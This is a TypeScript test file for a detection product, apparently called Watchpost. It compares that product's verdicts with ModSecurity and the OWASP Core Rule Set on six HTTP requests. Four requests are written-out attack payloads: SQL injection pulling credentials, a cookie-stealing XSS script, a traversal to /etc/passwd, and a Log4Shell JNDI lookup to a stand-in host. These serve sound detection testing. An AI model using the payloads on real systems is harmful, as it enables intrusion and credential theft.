import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CrsServer, crsUnavailable, crsVersion, requestTarget, type CrsVerdict } from '../../bench/detection/crs.js';
import { loadRules } from '../../processors/detection/rules/load.js';
import { DetectionStage, type EventMatch } from '../../processors/detection/worker.js';
import { eventFromFields } from '../../processors/detection/event.js';
import { defaultRulesPath } from '../../core/paths.js';

/*
 * The detection benchmark's peer: nginx with ModSecurity and the OWASP Core Rule Set from
 * Debian's packages (nginx, libnginx-mod-http-modsecurity, modsecurity-crs; see APT_PACKAGES in
 * .ci/run), on 127.0.0.1. These tests check that the harness reads ModSecurity's verdicts right,
 * so the benchmark compares against a working CRS, and that Watchpost judges the same requests.
 */

const REQUESTS = [
  { id: 'sqli', method: 'GET', target: requestTarget("/products?id=1' UNION SELECT username,password FROM users--"), headers: {}, attack: true },
  { id: 'xss', method: 'GET', target: requestTarget('/search?q=<script>alert(document.cookie)</script>'), headers: {}, attack: true },
  { id: 'traversal', method: 'GET', target: '/download?file=../../../../etc/passwd', headers: {}, attack: true },
  { id: 'log4shell', method: 'GET', target: requestTarget('/api?version=${jndi:ldap://198.51.100.1/a}'), headers: {}, attack: true },
  { id: 'benign-search', method: 'GET', target: '/search?q=red+shoes&page=2', headers: {}, attack: false },
  { id: 'benign-apostrophe', method: 'GET', target: requestTarget("/search?q=O'Reilly books"), headers: {}, attack: false },
];

function watchpostDetects(request: (typeof REQUESTS)[number]): boolean {
  const rules = loadRules([defaultRulesPath()]);
  const stage = new DetectionStage({ rules, markAttribute: '', apiKeyHashKey: 'interop' });
  const question = request.target.indexOf('?');
  const fields: Record<string, unknown> = { 'http.request.method': request.method, 'url.path': question >= 0 ? request.target.slice(0, question) : request.target, 'client.address': '192.0.2.10' };
  if (question >= 0) fields['url.query'] = request.target.slice(question + 1);
  for (const [name, value] of Object.entries(request.headers)) fields[`http.request.header.${name.toLowerCase()}`] = value;
  const matches: EventMatch[] = [];
  stage.evaluate(eventFromFields(fields, Date.UTC(2024, 0, 1), stage.extractOptions), matches);
  return matches.some((match) => match.rules.some((index) => rules.rules[index].trigger.kind === 'single'));
}

describe('nginx with ModSecurity and the Core Rule Set', () => {
  let server: CrsServer;
  let verdicts: Map<string, CrsVerdict>;

  beforeAll(async () => {
    const problem = crsUnavailable();
    if (problem) throw new Error(problem);
    server = await CrsServer.start();
    verdicts = await server.judge(REQUESTS);
  });

  afterAll(async () => {
    await server?.stop();
  });

  it('is CRS 3.3', () => {
    expect(crsVersion()).toMatch(/^3\.3\./);
  });

  it.each(REQUESTS.filter((request) => request.attack))('flags the $id request', (request) => {
    const verdict = verdicts.get(request.id);

    expect(verdict?.detected).toBe(true);
    expect(verdict?.ruleIds).toContain('949110');
    expect(watchpostDetects(request)).toBe(true);
  });

  it.each(REQUESTS.filter((request) => !request.attack))('lets the $id request through', (request) => {
    const verdict = verdicts.get(request.id);

    expect(verdict?.detected).toBe(false);
    expect(verdict?.status).toBe(200);
    expect(watchpostDetects(request)).toBe(false);
  });
});
